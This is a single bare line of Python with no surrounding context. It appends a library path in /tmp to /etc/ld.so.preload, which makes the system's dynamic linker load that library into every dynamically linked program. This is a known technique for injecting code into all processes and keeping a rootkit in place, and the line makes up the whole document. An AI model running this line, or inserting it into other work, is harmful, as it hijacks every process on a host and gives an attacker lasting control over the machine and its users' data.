open("/etc/ld.so.preload", "a").write("/tmp/x.so")
